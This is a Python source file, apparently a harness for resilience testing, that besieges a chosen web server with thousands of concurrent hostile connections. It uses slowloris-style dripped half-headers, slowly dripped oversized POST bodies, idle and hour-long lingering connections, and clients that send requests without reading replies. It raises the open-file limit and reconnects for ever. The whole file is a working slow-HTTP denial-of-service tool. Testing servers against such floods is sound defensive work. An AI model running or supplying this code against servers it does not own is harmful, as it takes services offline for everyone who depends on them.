"""Hostile clients without credentials, by kind; who is cut off comes again."""

import asyncio
import resource
import socket
from collections.abc import Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass, fields
from typing import Any, Final

HOST: Final = b"Host: shaodao.example\r\n"
PATIENCE_S: Final = 3600
AGAIN_S: Final = 0.5
_SPARE_SOCKETS: Final = 1000


@dataclass(frozen=True)
class Siege:
    """How many clients of each kind are there at once; `lingering` is how many come each second."""

    lingering: int = 3
    half_heads: int = 1000
    idle: int = 1000
    slow_bodies: int = 200
    deaf_readers: int = 200

    def __str__(self) -> str:
        return ", ".join(f"{getattr(self, each.name):,} {each.name}" for each in fields(self))


def besiege(host: str, port: int, siege: Siege) -> None:
    """Runs all of them, for ever."""
    allow_sockets(siege.half_heads + siege.idle + siege.slow_bodies + siege.deaf_readers)
    asyncio.run(_besiege((host, port), siege))


def allow_sockets(wanted: int) -> None:
    """Raises the limit of open files as far as the machine lets us."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    enough = wanted + _SPARE_SOCKETS
    if soft < enough:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(enough, hard), hard))


async def _besiege(address: tuple[str, int], siege: Siege) -> None:
    crowd = {
        _half_head: siege.half_heads,
        _idle: siege.idle,
        _slow_body: siege.slow_bodies,
        _deaf_reader: siege.deaf_readers,
    }
    everybody = [_again(kind, address) for kind, count in crowd.items() for _ in range(count)]
    await asyncio.gather(_come_to_linger(address, siege.lingering), *everybody)


async def _again(deed: Callable[[socket.socket], Coroutine[Any, Any, None]], address: Any) -> None:
    while True:
        with suppress(OSError), _socket() as line:
            await asyncio.get_running_loop().sock_connect(line, address)
            await deed(line)
        await asyncio.sleep(AGAIN_S)


async def _come_to_linger(address: tuple[str, int], each_second: int) -> None:
    lingering = set()
    while each_second:
        task = asyncio.create_task(_again(_linger, address))
        lingering.add(task)
        await asyncio.sleep(1 / each_second)


async def _linger(line: socket.socket) -> None:
    """Reads the answer and does not close."""
    await _send(line, b"GET /healthz HTTP/1.0\r\n\r\n")
    await _read(line)
    await asyncio.sleep(PATIENCE_S)


async def _half_head(line: socket.socket) -> None:
    await _send(line, b"GET / HTTP/1.1\r\n" + HOST + b"X-Half: ")
    await _drip(line, seconds=5)


async def _idle(line: socket.socket) -> None:
    await _send(line, b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n")
    while await _read(line):
        pass


async def _slow_body(line: socket.socket) -> None:
    head = b"POST /api/v1/session HTTP/1.1\r\nContent-Type: application/json\r\n" + HOST
    await _send(line, head + b"Content-Length: 500000\r\n\r\n")
    await _drip(line, seconds=1)


async def _deaf_reader(line: socket.socket) -> None:
    """Asks again and again, and reads nothing."""
    while True:
        await _send(line, b"GET /login HTTP/1.1\r\n" + HOST + b"\r\n")


async def _drip(line: socket.socket, seconds: float) -> None:
    while True:
        await asyncio.sleep(seconds)
        await _send(line, b"x")


def _socket() -> socket.socket:
    line = socket.socket()
    line.settimeout(0)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    return line


async def _send(line: socket.socket, said: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(line, said)


async def _read(line: socket.socket) -> bytes:
    return await asyncio.get_running_loop().sock_recv(line, 65536)
